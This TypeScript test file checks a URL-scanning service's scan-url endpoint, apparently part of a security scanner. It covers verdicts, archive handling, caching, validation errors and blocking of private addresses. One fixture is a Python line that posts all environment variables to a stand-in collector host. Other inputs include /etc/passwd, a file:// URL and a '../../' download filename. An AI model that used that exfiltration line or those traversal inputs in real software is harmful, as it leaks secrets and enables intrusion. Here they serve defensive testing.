/** `POST /api/v1/scan-url`: the whole service, which fetches from servers on loopback. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type RunningServer, startServer } from '../../src/api/server.ts';
import { serve } from '../fetchers/serve.ts';
import { tarBytes } from '../fetchers/tar-bytes.ts';
import { type Answer, clientOf } from './open-service.ts';

const folder = mkdtempSync(join(tmpdir(), 'assay-scan-url-'));
const settings = { ASSAY_ALLOW_PRIVATE_ADDRESSES: '1', ASSAY_CACHE_DIR: join(folder, 'cache') };
let service: RunningServer;
let client: ReturnType<typeof clientOf>;

beforeAll(async () => {
  Object.assign(process.env, settings);
  service = await startServer({ host: '127.0.0.1', port: 0, location: { dataDir: folder }, log: null });
  client = clientOf(service.url, service.firstKey ?? '');
});
afterAll(async () => {
  await service.close();
  for (const name of Object.keys(settings)) delete process.env[name];
  rmSync(folder, { recursive: true, force: true });
});

const ask = (body: object): Promise<Answer> => client.post(body, {}, '/api/v1/scan-url');
const serveText = (text: string | Buffer, headers = {}) =>
  serve((_request, response) => response.writeHead(200, headers).end(text));

test('one file: the answer of a scan, and where it came from', async () => {
  const text = 'import os, requests\nrequests.post("https://collector.test", data=dict(os.environ))\n';
  const { url } = await serveText(text);
  const { status, body } = await ask({ url: `${url}/agent.py`, type: 'raw' });
  expect(status).toBe(200);
  expect(body).toMatchObject({
    verdict: 'REJECT',
    coverage: { complete: true, filesTotal: 1 },
    resolvedUrl: `${url}/agent.py`,
    fetchedContent: text,
    fetchedContentPath: 'agent.py',
    fetchedContentEncoding: 'utf-8',
    fetchedContentTruncated: false,
    source: { type: 'raw', requestedUrl: `${url}/agent.py`, files: [{ path: 'agent.py', size: text.length }] },
  });
  expect(body).not.toHaveProperty('createdAt');
  const { body: report } = await client.get(`/api/v1/report/${body.scanId}?include=content`);
  expect(report).toMatchObject({ status: 'completed', source: body.source });
  expect(report).not.toHaveProperty('fetchedContent');
  await expectToFit('ScanUrlAnswer', body);
  await expectToFit('Report', report);
});

test('an archive: its files, and the one that tells most', async () => {
  const entries = [
    { name: 'pkg/package.json', content: '{"name":"a","version":"1.0.0"}' },
    { name: 'pkg/SKILL.md', content: '# A\n' },
  ];
  const { url } = await serveText(gzipSync(tarBytes(entries)), {
    'content-disposition': 'attachment; filename="../../a.tgz"',
  });
  const { body } = await ask({ url: `${url}/download`, type: 'raw' });
  expect(body).toMatchObject({ fetchedContent: '# A\n', fetchedContentPath: 'pkg/SKILL.md' });
  expect(body.source.files).toHaveLength(2);
});

test('what is fetched is left out when nobody wants it, and kept when somebody does', async () => {
  const { url } = await serveText('hello\n');
  const { body: bare } = await ask({ url: `${url}/a.txt`, type: 'raw', includeContent: false });
  expect(bare).not.toHaveProperty('fetchedContent');
  expect(bare).toHaveProperty('resolvedUrl');
  const { body: kept } = await ask({ url: `${url}/a.txt`, type: 'raw', storeContent: true, includeContent: false });
  expect(kept).not.toHaveProperty('fetchedContent');
  expect((await client.get(`/api/v1/report/${kept.scanId}`)).body).not.toHaveProperty('fetchedContent');
  expect((await client.get(`/api/v1/report/${kept.scanId}?include=content`)).body.fetchedContent).toBe('hello\n');
});

test('the same bytes are answered from the store, with what is true of this download', async () => {
  const { url } = await serveText('same bytes\n');
  const { body: first } = await ask({ url: `${url}/a.txt?page=1`, type: 'raw' });
  const { body: second } = await ask({ url: `${url}/a.txt?page=2`, type: 'raw' });
  expect(second).toMatchObject({ cached: true, scanId: first.scanId, resolvedUrl: `${url}/a.txt?page=2` });
  expect(second.source.requestedUrl).toBe(`${url}/a.txt?page=2`);
});

describe('what is wrong is said in the words of the wire', () => {
  test.each([
    [{}, 'url', 'required'],
    [{ url: 'https://a.test/x' }, 'type', 'required'],
    [{ url: '', type: 'raw' }, 'url', 'empty'],
    [{ url: 7, type: 'raw' }, 'url', 'type'],
    [{ url: 'https://a.test/x', type: 'svn' }, 'type', 'enum'],
    [{ url: `https://a.test/${'x'.repeat(5000)}`, type: 'raw' }, 'url', 'too_long'],
    [{ url: 'https://a.test/x', type: 'raw', includeContent: 'no' }, 'includeContent', 'type'],
    [{ url: '/etc/passwd', type: 'raw' }, 'url', 'invalid_reference'],
    [{ url: 'file:///etc/passwd', type: 'raw' }, 'url', 'invalid_reference'],
    [{ url: 'npm:left-pad', type: 'github' }, 'type', 'mismatch'],
    [{ url: 'https://github.com/a/b', type: 'npm' }, 'type', 'mismatch'],
    [{ url: 'https://somewhere.test/x', type: 'github' }, 'type', 'mismatch'],
    [{ url: 'npm:left-pad', type: 'raw' }, 'url', 'invalid_reference'],
    [{ url: 'http://no-such-host.invalid/x', type: 'raw' }, 'url', 'unreachable'],
  ])('%j', async (request, field, reason) => {
    const { status, body } = await ask(request);
    expect({ status, code: body.error?.code, ...body.error?.details }).toMatchObject({
      status: 400,
      code: 'VALIDATION_ERROR',
      field,
      reason,
    });
    await expectToFit('Error', body);
  });

  test('an address of this machine is refused unless the operator allows it', async () => {
    const { url, requests } = await serveText('secret');
    delete process.env.ASSAY_ALLOW_PRIVATE_ADDRESSES;
    const strict = await startServer({ host: '127.0.0.1', port: 0, location: { path: ':memory:' }, log: null });
    try {
      const { post } = clientOf(strict.url, strict.firstKey ?? '');
      const { status, body } = await post({ url: `${url}/a.txt`, type: 'raw' }, {}, '/api/v1/scan-url');
      expect(status).toBe(400);
      expect(body.error.details).toEqual({ field: 'url', reason: 'blocked_address' });
      expect(requests).toHaveLength(0);
    } finally {
      Object.assign(process.env, settings);
      await strict.close();
    }
  });

  test.each([
    [404, {}, 404, 'NOT_FOUND', 'not_found'],
    [401, {}, 404, 'NOT_FOUND', 'not_found'],
    [429, { 'retry-after': '3600' }, 503, 'UPSTREAM_UNAVAILABLE', 'unavailable'],
  ])('an upstream that answers %i', async (upstream, headers, status, code, reason) => {
    const server = await serve((_request, response) => response.writeHead(upstream, headers).end());
    const answer = await ask({ url: `${server.url}/a.tgz`, type: 'raw' });
    expect(answer.status).toBe(status);
    expect(answer.body.error).toMatchObject({ code, details: { field: 'url', reason } });
    expect(answer.headers.get('retry-after')).toBe(upstream === 429 ? '3600' : null);
    await expectToFit('Error', answer.body);
  });

  test('a page where a package should be', async () => {
    const { url } = await serveText('<!doctype html><title>Sign in</title>');
    const { status, body } = await ask({ url: `${url}/a.tgz`, type: 'raw' });
    expect([status, body.error.details.reason]).toEqual([400, 'unexpected_content']);
  });

  test('more bytes than an artifact may have', async () => {
    const server = await serve((_request, response) =>
      response.writeHead(200, { 'content-length': 1e12 }).flushHeaders(),
    );
    const { status, body } = await ask({ url: `${server.url}/a.bin`, type: 'raw' });
    expect([status, body.error.details.reason]).toEqual([400, 'too_large']);
  });
});

test('a download whose caller has gone is given up', async () => {
  let hungUp = false;
  const server = await serve((_request, response) => void response.on('close', () => (hungUp = true)));
  const gone = new AbortController();
  const asking = fetch(`${service.url}/api/v1/scan-url`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-api-key': service.firstKey ?? '' },
    body: JSON.stringify({ url: `${server.url}/slow.txt`, type: 'raw' }),
    signal: gone.signal,
  });
  await expect.poll(() => server.requests.length, { timeout: 20_000 }).toBe(1);
  gone.abort();
  await expect(asking).rejects.toThrow();
  await expect.poll(() => hungUp, { timeout: 20_000 }).toBe(true);
});

let ajv: Ajv2020 | undefined;

async function expectToFit(schema: string, value: unknown): Promise<void> {
  if (ajv === undefined) {
    ajv = new Ajv2020({ strict: false, allErrors: true });
    addFormats.default(ajv);
    ajv.addSchema((await client.get('/api/v1/openapi.json')).body, 'openapi');
  }
  const validate = ajv.compile({ $ref: `openapi#/components/schemas/${schema}` });
  expect(validate(value) ? [] : validate.errors).toEqual([]);
}
